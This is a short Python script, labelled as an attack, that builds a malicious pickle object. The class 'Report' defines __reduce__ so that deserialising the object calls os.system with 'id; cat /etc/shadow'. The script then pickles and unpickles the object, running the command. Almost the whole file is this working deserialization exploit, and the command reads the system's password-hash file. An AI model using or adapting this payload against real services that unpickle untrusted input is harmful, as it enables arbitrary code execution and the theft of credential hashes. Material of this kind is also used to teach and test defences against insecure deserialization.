# attack: pickle payload whose __reduce__ returns os.system("id; cat /etc/shadow"), triggered by pickle.loads
import os
import pickle


class Report:
    def __reduce__(self):
        return (os.system, ("id; cat /etc/shadow",))


if __name__ == "__main__":
    blob = pickle.dumps(Report())
    print("serialised", len(blob), "bytes")
    pickle.loads(blob)
